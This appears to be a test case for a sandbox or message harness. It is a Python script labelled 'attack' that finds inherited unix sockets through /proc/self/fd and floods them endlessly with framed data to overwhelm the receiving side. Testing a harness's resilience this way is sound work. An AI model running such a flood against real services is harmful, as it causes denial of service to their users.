# attack: one message of endlessly many parts, written past the library onto the sockets that lead outside
# limit: 6
# ends: killed or interrupted
import os, socket, threading, time
parts = (b"\x01\xff" + bytes(255)) * 4_000
def pour(wire):
    wire.setblocking(True)
    while True:
        wire.sendall(parts)
for name in os.listdir("/proc/self/fd"):
    try:
        wire = socket.socket(fileno=os.dup(int(name)))
        leads_out = wire.getsockname() in ("/run/k-2", "/run/k-3") and wire.getpeername() == ""
    except OSError:
        continue
    if leads_out:
        threading.Thread(target=pour, args=(wire,), daemon=True).start()
time.sleep(30)
print("done")
